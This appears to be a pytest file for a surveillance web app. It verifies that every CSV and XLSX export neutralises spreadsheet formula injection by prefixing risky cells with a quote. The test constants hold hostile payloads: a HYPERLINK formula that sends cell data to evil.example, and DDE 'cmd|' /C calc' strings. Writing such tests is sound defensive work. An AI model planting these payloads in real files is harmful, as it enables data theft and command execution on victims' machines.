"""Every CSV and XLSX Fireline serves shows hostile text as text (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from fastapi import APIRouter, FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from fireline.auth.scope import Actor
from fireline.interop.cells import inert
from fireline.surveillance.intake.batches import ImportOptions, import_file
from fireline.web.setup import page_routers
from tests.auth.factories import bearer, make_user
from tests.places.factories import small_tree
from tests.surveillance.intake.factories import EN_HEADER, csv_bytes
from tests.surveillance.profiles import acting
from tests.surveillance.views.factories import add_case
from tests.web.pages import log_in

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_DATE = "-2+3+cmd|' /C calc'!A0"
HOSTILE_ZH = "+1+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+0.25", "+0.25"),
        ("-1.5e3", "-1.5e3"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_inert_prefixes_formula_starts_and_keeps_numbers(value: object, expected: object) -> None:
    assert inert(value) == expected


def _page_paths(router: APIRouter, prefix: str = "") -> Iterator[str]:
    for route in router.routes:
        nested = getattr(route, "original_router", None)
        if nested is not None:
            yield from _page_paths(nested, prefix + (route.include_context.prefix or ""))  # type: ignore[attr-defined]
        else:
            yield prefix + getattr(route, "path", "")


def export_routes(app: FastAPI) -> set[str]:
    """Routes that serve a file: a .csv/.xlsx path, or an API operation with a format."""
    found = {p for r in page_routers() for p in _page_paths(r) if p.endswith((".csv", ".xlsx"))}
    for path, operations in app.openapi()["paths"].items():
        for operation in operations.values():
            names = {p["name"] for p in operation.get("parameters", [])}
            if path.endswith((".csv", ".xlsx")) or "format" in names:
                found.add(path)
    return found


@pytest.fixture
def world(session: Session) -> dict[str, Any]:
    tree = small_tree(session)
    tree["C1A"].name_en, tree["C1A"].name_zh = HOSTILE, HOSTILE_ZH
    add_case(session, tree["C1A"], HOSTILE, external_id=HOSTILE_ID)
    actor = Actor(None, "importer", "investigator", tree["C1A"].id, tree["C1A"].path)
    bad = f"A9,{HOSTILE_ID},,female,1980-01-01,,C1A,{HOSTILE_DATE},2024-03-03,confirmed"
    batch = import_file(
        session,
        acting(actor),
        filename="bad.csv",
        content=csv_bytes(EN_HEADER, [bad]),
        options=ImportOptions(disease="covid19"),
    )
    session.commit()
    make_user(session, "county", "investigator", "C1A")
    make_user(session, "city", "epidemiologist", "C1")
    return {"batch": batch.id}


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(body: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    # A formula cell would come back as its formula text with data_type "f".
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]


Fetch = Callable[[TestClient, dict[str, Any]], tuple[bytes, str]]


def _get(client: TestClient, user: str, url: str, api: bool) -> tuple[bytes, str]:
    headers = bearer(client, user) if api else {}
    if not api:
        log_in(client, user)
    response = client.get(url, headers=headers)
    assert response.status_code == 200, response.text
    return response.content, response.headers["content-type"]


CALLS: dict[str, list[Fetch]] = {
    "/surveillance/cases.csv": [
        lambda c, w: _get(c, "county", "/surveillance/cases.csv?names=1", False)
    ],
    "/surveillance/imports/{batch_id}/report.csv": [
        lambda c, w: _get(c, "county", f"/surveillance/imports/{w['batch']}/report.csv", False)
    ],
    "/api/v1/case-imports/{batch_id}/report.csv": [
        lambda c, w: _get(c, "county", f"/api/v1/case-imports/{w['batch']}/report.csv", True)
    ],
    "/response/league.csv": [lambda c, w: _get(c, "city", "/response/league.csv", False)],
    "/response/league.xlsx": [lambda c, w: _get(c, "city", "/response/league.xlsx", False)],
    "/api/v1/responses/league": [
        lambda c, w, k=kind: _get(c, "city", f"/api/v1/responses/league?format={k}", True)  # type: ignore[misc]
        for kind in ("csv", "xlsx")
    ],
    "/overview/matrix.csv": [lambda c, w: _get(c, "city", "/overview/matrix.csv", False)],
    "/overview/matrix.xlsx": [lambda c, w: _get(c, "city", "/overview/matrix.xlsx", False)],
}
# The pseudonymised line list holds no typed text to guard: pseudonyms, codes, dates,
# age bands (fireline.exports; tests/exports check that no name or ID leaves).
NO_FREE_TEXT = {"/api/v1/exports/linelist"}
# Not a file: the list of archived situation reports, whose ``format`` filters pdf/html.
NOT_A_FILE = {"/api/v1/jurisdictions/{code}/sitrep/archive"}


def test_every_export_route_is_covered(app_factory: Callable[[], FastAPI]) -> None:
    assert export_routes(app_factory()) - NOT_A_FILE == set(CALLS) | NO_FREE_TEXT


def test_every_export_writes_hostile_text_inert(client: TestClient, world: dict[str, Any]) -> None:
    for route, fetches in CALLS.items():
        for fetch in fetches:
            body, media = fetch(client, world)
            cells = _xlsx_cells(body) if "spreadsheet" in media else _csv_cells(body)
            hostile = [c for c in cells if "cmd|" in c or "HYPERLINK" in c or "SUM(" in c]
            assert hostile, route  # the hostile text is in this file...
            assert all(c.startswith("'") for c in hostile), (route, hostile)  # ...as text
